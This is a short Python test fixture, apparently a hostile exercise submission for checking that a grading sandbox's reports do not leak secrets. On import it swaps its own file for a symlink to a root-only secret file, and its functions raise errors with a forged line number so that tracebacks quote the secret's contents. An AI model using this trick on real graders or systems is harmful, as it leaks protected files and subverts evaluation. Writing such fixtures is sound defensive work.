# Replaces its own file in the workspace by a symlink to a root-only file, then fails with a
# forged line number, hoping that the report quotes "its" lines from the linked file.
import os

target = "{WORKSPACE}/exercise01_squeeze.py"
try:
    os.remove(target)
    os.symlink("{SECRET_FILE}", target)
except OSError:
    pass


def add_batch_dim(image):
    exec(compile("\n" * 2 + "raise ValueError('look at line 3')", target, "exec"))


def remove_batch_dim(batch):
    exec(compile("\n" * 2 + "raise ValueError('look at line 3')", target, "exec"))
